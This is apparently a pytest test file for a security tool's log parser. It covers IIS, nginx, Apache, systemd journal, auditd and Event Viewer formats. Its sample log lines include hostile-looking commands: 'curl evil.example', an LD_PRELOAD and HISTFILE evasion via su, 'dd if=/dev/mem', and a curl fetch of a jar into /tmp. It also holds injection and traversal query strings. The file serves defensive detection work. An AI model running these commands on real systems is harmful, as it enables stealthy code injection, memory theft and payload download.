"""Logs in the shapes that their makers document: IIS' own, error logs, the journal and the audit log as people read them."""

import json
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest

from wardround.core.logs import Kind
from wardround.core.sigma import LogSource, serves

Read = Callable[..., Any]
WHEN = datetime(2025, 5, 15, 2, 12, 44, tzinfo=UTC)
SUMMER = "Europe/London"
IIS = (
    "192.168.114.201, -, 05/15/25, 3:12:44, W3SVC2, SALES1, 172.21.13.45, 4502, 163, 3223, 200, 0, GET, /DeptLogo.aspx, a=%2e%2e, "
)
NGINX = (
    '2025/05/15 03:12:44 [error] 29#31: *5 open() "/usr/share/nginx/html/mifs/403.jsp" failed (2: No such file or directory), '
    'client: 203.0.113.7, server: mdm.example, request: "GET /mifs/403.jsp?k=a%27 HTTP/1.1", host: "mdm.example:443", '
    'referrer: "https://a.example/"'
)
APACHE = (
    "[Thu May 15 03:12:44.123456 2025] [core:error] [pid 35708:tid 4328636416] [client 203.0.113.7:5123] "
    "AH00128: File does not exist: /var/www/html/403.jsp, referer: https://a.example/"
)
OLD_APACHE = "[Thu May 15 03:12:44 2025] [error] [client 203.0.113.7] File does not exist: /var/www/html/favicon.ico"
SEGFAULT = "[Thu May 15 03:12:44 2025] [notice] child pid 3350 exit signal Segmentation fault (11)"


class TestIis:
    def test_every_value_by_the_names_that_rules_use(self, read: Read) -> None:
        (event,), tally = read(IIS, zone=SUMMER)
        got = {name: event.fields[name] for name in ("c-ip", "sc-status", "cs-method", "cs-uri-stem", "c-uri-extension", "s-ip")}
        assert got == {
            "c-ip": ("192.168.114.201",),
            "sc-status": (200,),
            "cs-method": ("GET",),
            "cs-uri-stem": ("/DeptLogo.aspx",),
            "c-uri-extension": ("aspx",),
            "s-ip": ("172.21.13.45",),
        }
        assert "a=.." in event.fields["cs-uri-query"]
        assert (event.time, event.host, event.fields["cs-username"]) == (WHEN, "SALES1", ("-", ""))
        assert (tally.shape, tally.unparsed) == ("IIS log file format", 0)
        assert set(event.fields) <= event.kind.fields

    def test_its_times_state_no_zone_and_it_is_said(self, read: Read) -> None:
        assert read(IIS)[1].coverage().zone == "not stated, read as UTC"

    def test_it_has_no_user_agent_and_rules_that_need_one_cannot_run(self, read: Read) -> None:
        (event,), _ = read(IIS)
        assert "cs-user-agent" not in event.kind.fields

    @pytest.mark.parametrize("line", [IIS.replace("05/15/25", "15/05/25"), IIS.replace("3:12:44", "3:12"), IIS[:60]])
    def test_a_line_of_another_form_is_counted(self, read: Read, line: str) -> None:
        events, tally = read(IIS, line)
        assert (len(events), tally.unparsed) == (1, 1)


class TestErrorLogs:
    def test_nginx(self, read: Read) -> None:
        (event,), tally = read(NGINX, zone=SUMMER)
        assert (event.time, event.kind[1:3], tally.shape) == (WHEN, ("weberror", "nginx"), "nginx error log")
        assert (event.fields["c-ip"], event.fields["cs-method"], event.fields["level"]) == (("203.0.113.7",), ("GET",), ("error",))
        assert event.fields["cs-uri-query"] == ("k=a%27", "k=a'", "/mifs/403.jsp?k=a%27", "/mifs/403.jsp?k=a'")
        assert event.fields["cs-referrer"] == ("https://a.example/",)
        assert set(event.fields) <= event.kind.fields

    @pytest.mark.parametrize(("line", "module"), [(APACHE, ("core",)), (OLD_APACHE, None)])
    def test_apache(self, read: Read, line: str, module: object) -> None:
        (event,), tally = read(line, zone=SUMMER)
        assert event.time.replace(microsecond=0) == WHEN
        assert (event.fields["c-ip"], event.fields.get("module")) == (("203.0.113.7",), module)
        assert (tally.shape, tally.unparsed) == ("Apache error log", 0)
        assert set(event.fields) <= event.kind.fields

    def test_a_client_of_version_6_with_its_port(self, read: Read) -> None:
        (event,), _ = read(APACHE.replace("203.0.113.7:5123", "[2001:db8::7]:5123"))
        assert event.fields["c-ip"] == ("2001:db8::7",)

    def test_the_rules_for_it_run_and_those_for_access_logs_do_not(self, read: Read) -> None:
        """What was asked and answered without an error stands in none of them."""
        (event,), _ = read(SEGFAULT)
        assert serves(event.kind, LogSource(service="apache"))
        assert not serves(event.kind, LogSource(category="webserver"))
        assert not serves(Kind("", "weberror", "nginx"), LogSource(service="apache"))

    def test_they_state_no_zone(self, read: Read) -> None:
        assert {read(line)[1].coverage().zone for line in (NGINX, APACHE)} == {"not stated, read as UTC"}


class TestJournal:
    @pytest.mark.parametrize(
        "line",
        [
            "Thu 2025-05-15 03:12:44 BST web1 sshd[812]: Failed password for root from 203.0.113.7 port 22 ssh2",
            "Thu 2025-05-15 02:12:44.000000 UTC web1 sshd[812]: Failed password for root from 203.0.113.7 port 22 ssh2",
            "1747275164.000000 web1 sshd[812]: Failed password for root from 203.0.113.7 port 22 ssh2",
            "May 15 03:12:44 web1 sshd[812]: Failed password for root from 203.0.113.7 port 22 ssh2",
            "2025-05-15T03:12:44+0100 web1 sshd[812]: Failed password for root from 203.0.113.7 port 22 ssh2",
        ],
    )
    def test_the_forms_of_a_line(self, read: Read, line: str) -> None:
        (event,), tally = read(line, zone=SUMMER)
        assert (event.kind.channel, event.time, event.host, event.fields["src_ip"]) == ("sshd", WHEN, "web1", ("203.0.113.7",))
        assert tally.unparsed == 0

    def test_lines_between_boots_are_none_of_the_logs(self, read: Read) -> None:
        events, tally = read(
            "-- Logs begin at Thu 2025-05-01 00:00:00 BST, end at Thu 2025-05-15 03:12:44 BST. --",
            "May 15 03:12:44 web1 sshd[812]: one",
            "-- Boot 0123456789abcdef0123456789abcdef --",
            "-- Reboot --",
            "-- something else --",
        )
        assert (len(events), tally.unparsed) == (1, 1)

    def test_without_the_time_of_day_it_covers_no_hour(self, read: Read) -> None:
        (event,), tally = read("[ 5042.123456] web1 sshd[812]: one")
        assert (event.time, event.kind.channel, tally.not_placed) == (None, "sshd", 1)

    def test_an_entry_over_many_lines(self, read: Read) -> None:
        entry = [
            "    _TRANSPORT=syslog",
            "    SYSLOG_IDENTIFIER=sudo",
            "    _HOSTNAME=web1",
            "    MESSAGE=a : TTY=b ; USER=root ; COMMAND=/x",
        ]
        head = "Thu 2025-05-15 03:12:44.000000 BST [s=ab12;i=1;b=cd;m=1;t=2;x=3]"
        events, tally = read(head, *entry, head.replace("44.", "45."), *entry, zone=SUMMER)
        assert [(event.kind.channel, event.host, event.fields["COMMAND"]) for event in events] == [("sudo", "web1", ("/x",))] * 2
        assert [event.time for event in events] == [WHEN, WHEN.replace(second=45)]
        assert (tally.shape, tally.unparsed) == ("systemd journal (verbose)", 0)

    def test_a_field_that_stands_twice_keeps_both_values(self, read: Read) -> None:
        head = "Thu 2025-05-15 03:12:44.000000 BST [s=ab12;i=1;b=cd;m=1;t=2;x=3]"
        (event,), _ = read(head, "    SYSLOG_IDENTIFIER=app", "    MESSAGE=curl evil.example", "    MESSAGE=all well")
        assert "curl evil.example" in event.text
        assert "all well" in event.text

    def test_a_message_of_several_lines_is_kept_whole(self, read: Read) -> None:
        head = "Thu 2025-05-15 03:12:44.000000 BST [s=ab12;i=1;b=cd;m=1;t=2;x=3]"
        given = "    SYSLOG_IDENTIFIER=sshd", "    MESSAGE=one", "            curl evil.example", "    PRIORITY=6"
        (event,), tally = read(head, *given)
        assert "one\ncurl evil.example" in event.text
        assert (event.kind.channel, tally.unparsed) == ("sshd", 0)

    def test_the_rest_of_a_torn_entry_is_counted(self, read: Read) -> None:
        assert read("    MESSAGE=alone", "May 15 03:12:44 web1 sshd[812]: one")[1].unparsed == 1


AUSEARCH = """----
time->Thu May 15 03:12:44 2025
type=PROCTITLE msg=audit(05/15/2025 03:12:44.243:24287) : proctitle=curl -o /tmp/web install.jar https://a.example/x=1
type=PATH msg=audit(05/15/2025 03:12:44.243:24287) : item=0 name=/usr/bin/curl inode=1 nametype=NORMAL cap_fp=none
type=CWD msg=audit(05/15/2025 03:12:44.243:24287) : cwd=/tmp/a folder
type=EXECVE msg=audit(05/15/2025 03:12:44.243:24287) : argc=4 a0=curl a1=-o a2=/tmp/web install.jar a3=12
type=SYSCALL msg=audit(05/15/2025 03:12:44.243:24287) : arch=x86_64 syscall=execve success=yes exit=0 ppid=2 exe=/usr/bin/curl
----
type=USER_AUTH msg=audit(05/15/2025 03:12:45.001:24288) : pid=1 msg='op=PAM:authentication acct=root addr=203.0.113.7 res=failed'
"""


class TestInterpretedAudit:
    def test_a_started_program(self, read: Read) -> None:
        (event, login), tally = read(AUSEARCH.replace("\nUSER", "USER"), zone=SUMMER)
        assert event.kind.channel == "auditd/process"
        assert event.fields["CommandLine"] == ("curl -o /tmp/web install.jar 12",)
        assert (event.fields["Image"], event.fields["SYSCALL"], event.fields["cwd"]) == (
            ("/usr/bin/curl",),
            ("execve",),
            ("/tmp/a folder",),
        )
        assert event.fields["proctitle"] == ("curl -o /tmp/web install.jar https://a.example/x=1",)
        assert event.time.replace(microsecond=0) == WHEN
        assert (login.fields["op"], login.fields["acct"], login.fields["res"]) == (("PAM:authentication",), ("root",), ("failed",))
        assert tally.unparsed == 0

    @pytest.mark.parametrize(
        ("given", "command"),
        [
            (
                "argc=3 a0=sh a1=-c a2=HISTFILE=/dev/null LD_PRELOAD=/tmp/x.so su",
                "sh -c HISTFILE=/dev/null LD_PRELOAD=/tmp/x.so su",
            ),
            ("argc=3 a0=sh a1=-c a2=dd if=/dev/mem of=/tmp/m", "sh -c dd if=/dev/mem of=/tmp/m"),
            ("argc=3 a0=sh a1=-c a2=curl msg='a1=b a3=c a0=d'", "sh -c curl msg='a1=b a3=c a0=d'"),
            ('argc=2 a0=sh a1_len=9 a1[0]=curl x=y a1[1]= z="w"', 'sh curl x=y z="w"'),
            ("argc=2 a0=sh a1_len=9 a1[0]=b a1[0]=c a1[9]=d a1[1]=e", "sh b a1[0]=c a1[9]=de"),
            ("argc=1 a0=sh", "sh"),
        ],
    )
    def test_an_argument_may_hold_what_looks_like_another_field(self, read: Read, given: str, command: str) -> None:
        (event,), tally = read(f"type=EXECVE msg=audit(05/15/2025 03:12:44.243:1) : {given} ")
        assert (event.fields["CommandLine"], tally.unparsed) == ((command,), 0)
        assert {"HISTFILE", "LD_PRELOAD", "if", "of", "msg", "x", "z"}.isdisjoint(event.fields)

    @pytest.mark.parametrize("quote", ["", '"'])
    def test_many_arguments_come_in_several_records(self, read: Read, quote: str) -> None:
        time = "05/15/2025 03:12:44.243" if not quote else "1747275164.243"
        head = f"type=EXECVE msg=audit({time}:1): "
        parts = ["argc=4 a0=Qcurl/xQ a1=Q-sQ", "a2=QevilQ", "a3=Q-oQ"]
        (event,), _ = read(*(head + part.replace("Q", quote) for part in parts))
        assert event.fields["CommandLine"] == ("curl/x -s evil -o",)
        assert [event.fields[f"a{n}"] for n in range(4)] == [("curl/x",), ("-s",), ("evil",), ("-o",)]

    def test_so_may_a_command_of_sudo(self, read: Read) -> None:
        about = "pid=1 uid=nurse msg='cwd=/ cmd=env FOO=1 dd if=/dev/mem exe=/usr/bin/sudo terminal=pts/0 res=success'"
        (event,), _ = read(f"type=USER_CMD msg=audit(05/15/2025 03:12:44.243:1) : {about}")
        assert (event.fields["cmd"], event.fields["cwd"]) == (("env FOO=1 dd if=/dev/mem",), ("/",))
        assert (event.fields["exe"], event.fields["res"]) == (("/usr/bin/sudo",), ("success",))

    def test_a_date_in_which_either_may_be_the_month_is_not_guessed(self, read: Read) -> None:
        """`ausearch` writes dates as its locale does."""
        line = "type=CWD msg=audit({} 03:12:44.243:1) : cwd=/"
        assert read(line.format("05/06/2025"))[1].not_placed == 1
        (event,), _ = read(line.format("15/05/25"), zone=SUMMER)
        assert event.time.replace(microsecond=0) == WHEN


class TestEventViewer:
    HEADER = "Level,Date and Time,Source,Event ID,Task Category"

    def test_its_table_with_a_message_over_many_lines(self, read: Read) -> None:
        row = "Information,15/05/2025 03:12:44,Microsoft-Windows-Security-Auditing,4624,Logon,"
        row += '"An account was logged on.\n\nSubject:\n\tSecurity ID:\t\tSYSTEM"'
        events, tally = read(self.HEADER, row, row.replace("4624", "4625"), zone=SUMMER)
        assert [(event.kind.channel, event.kind.event_id, event.time) for event in events] == [
            ("security", 4624, WHEN),
            ("security", 4625, WHEN),
        ]
        assert "Security ID" in events[0].text
        assert (tally.shape, tally.unparsed) == ("Windows event log (Event Viewer CSV)", 0)

    def test_sysmons_message_is_its_fields(self, read: Read) -> None:
        row = "Information,5/15/2025 3:12:44 AM,Microsoft-Windows-Sysmon,1,Process Create,"
        row += '"Process Create:\r\nImage: C:\\w.exe\r\nCommandLine: w /a"'
        (event,), _ = read(self.HEADER, row, zone=SUMMER)
        assert (event.fields["CommandLine"], event.kind.channel, event.time) == (
            ("w /a",),
            "microsoft-windows-sysmon/operational",
            WHEN,
        )

    def test_a_provider_that_writes_to_several_channels_names_none(self, read: Read) -> None:
        (event,), _ = read(
            "Keywords,Date and Time,Source,Event ID,Task Category", "Audit Success,15/05/2025 03:12:44,MSSQLSERVER,5,None"
        )
        assert (event.kind.channel, event.kind.event_id) == ("", 5)


@pytest.mark.parametrize("line", [IIS, NGINX, APACHE, "1747275164.000000 web1 sshd[812]: x", AUSEARCH.splitlines()[2]])
def test_a_line_made_to_cost_time_costs_none(read: Read, line: str) -> None:
    events, tally = read(*(line[:40] + part * 9_000 for part in (", ", "=", "[", " a=", ', client: "', "\\")), json.dumps({"a": 1}))
    assert len(events) + tally.unparsed == 7
